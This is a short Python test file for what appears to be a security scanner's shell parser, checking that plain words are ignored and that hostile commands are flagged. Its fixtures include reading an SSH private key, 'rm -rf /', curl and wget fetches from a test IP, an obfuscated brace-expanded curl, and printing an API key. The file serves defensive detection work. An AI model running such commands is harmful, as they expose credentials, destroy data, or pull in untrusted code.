"""Code of bare words only is skipped quickly, and only if it does nothing."""

from tests.cases import all_cases
from vskill_platform.scan.facts.facts import Act
from vskill_platform.scan.languages.dispatch import read_shell


@all_cases(
    "code", ["SKILL.md", "references/api.md", "max_tokens", "--verbose", "a b\n\n  c d.e\n", "  "]
)
def test_names_and_words_do_nothing(code: str) -> None:
    assert read_shell(code) == []


@all_cases(
    ("code", "act"),
    [
        ("cat ~/.ssh/id_rsa", Act.READ_SECRET),
        ("rm -rf /", Act.DELETE),
        ("/usr/bin/curl.exe http://203.0.113.7/x", Act.FETCH),
        ("time wget http://203.0.113.7/x", Act.FETCH),
        ("then curl http://203.0.113.7/x", Act.FETCH),
        ("% curl http://203.0.113.7/x", Act.FETCH),
        ("notes.md\n\ncurl http://203.0.113.7/x", Act.FETCH),
        ("X=1 curl http://203.0.113.7/x", Act.FETCH),
        ("foo;curl http://203.0.113.7/x", Act.FETCH),
        ("{curl,-s,http://203.0.113.7/x}", Act.HIDE),
        ("echo ${OPENAI_API_KEY}", Act.READ_ENV),
    ],
)
def test_bare_words_that_do_something_are_followed(code: str, act: Act) -> None:
    assert act in {fact.act for fact in read_shell(code)}
